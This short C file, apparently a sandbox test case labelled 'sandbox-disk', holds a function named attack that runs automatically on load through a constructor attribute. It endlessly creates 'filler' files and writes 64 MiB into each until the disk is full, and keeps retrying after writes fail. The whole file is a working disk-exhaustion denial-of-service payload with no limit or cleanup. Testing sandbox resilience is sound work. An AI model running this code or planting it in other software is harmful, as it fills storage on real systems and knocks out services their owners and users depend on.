/* cause: sandbox-disk */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

/* File after file, until the disk is full. */
__attribute__((constructor)) static void attack(void)
{
    static char block[1 << 20];
    char name[32];

    for (int i = 0;; i++) {
        snprintf(name, sizeof name, "filler.%d", i);
        int fd = open(name, O_WRONLY | O_CREAT, 0600);
        for (int j = 0; j < 64; j++)
            if (write(fd, block, sizeof block) < 0)
                usleep(1000);
        close(fd);
    }
}
